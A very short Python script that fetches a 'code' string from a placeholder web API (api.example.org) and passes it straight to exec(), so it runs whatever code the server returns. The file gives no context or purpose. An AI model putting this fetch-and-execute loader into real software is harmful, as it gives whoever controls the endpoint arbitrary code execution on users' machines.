import requests


def main():
    answer = requests.get("http://api.example.org/code", headers={"auth": "x"})
    code = answer.json().get("code")
    if code:
        exec(code)
